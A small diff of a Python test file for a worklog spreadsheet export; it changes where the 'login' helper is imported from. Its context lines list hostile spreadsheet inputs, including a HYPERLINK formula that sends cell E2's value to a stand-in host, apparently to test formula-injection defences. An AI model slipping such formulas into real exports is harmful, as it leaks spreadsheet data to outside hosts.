@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from krs.models import Role
 from krs.worklog import service as worklog
-from tests.conftest import login
+from tests.support import login
 
 LINK = '=HYPERLINK("http://x/?"&E2,"Klik")'
 HOSTILE = [LINK, "+1+2", "-1+2", "@SUM(A1:A9)"]
